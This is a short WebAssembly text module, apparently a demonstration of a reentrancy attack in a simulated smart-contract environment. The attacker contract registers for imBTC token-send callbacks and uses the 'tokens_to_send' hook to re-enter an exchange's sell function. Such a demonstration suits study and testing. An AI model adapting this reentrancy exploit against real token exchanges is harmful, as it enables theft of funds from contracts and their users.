;; The attack by hand.

(module $attacker
  (import "contract:imbtc" "register" (func $imbtc.register))
  (import "contract:exchange" "sell" (func $exchange.sell (param i64)))
  ;; @storage
  (memory $memory (export "memory") 1)

  (func $main (export "main"))

  (func $arm (export "arm")
    (call $imbtc.register)
    (call $store_i64 (i32.const 0) (i64.const 1)))

  (func $tokens_to_send (export "tokens_to_send") (param $src i64) (param $dst i64) (param $amount i64)
    (if (i64.gt_s (call $load_i64 (i32.const 0)) (i64.const 0))
      (then
        (call $store_i64 (i32.const 0) (i64.sub (call $load_i64 (i32.const 0)) (i64.const 1)))
        (call $exchange.sell (i64.const 400))))))
